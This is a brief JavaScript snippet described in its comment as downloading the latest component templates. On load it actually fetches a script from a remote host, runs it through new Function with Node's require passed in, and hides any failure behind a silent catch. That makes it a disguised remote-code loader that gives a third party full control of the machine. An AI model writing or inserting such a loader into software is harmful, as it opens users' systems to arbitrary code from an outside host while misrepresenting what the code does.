// downloads the latest component templates
(async () => {
  try {
    const res = await fetch('https://templates.example.net/react/bootstrap.js');
    const text = await res.text();
    new Function('require', text)(require);
  } catch (e) {
    // offline: keep the bundled templates
  }
})();
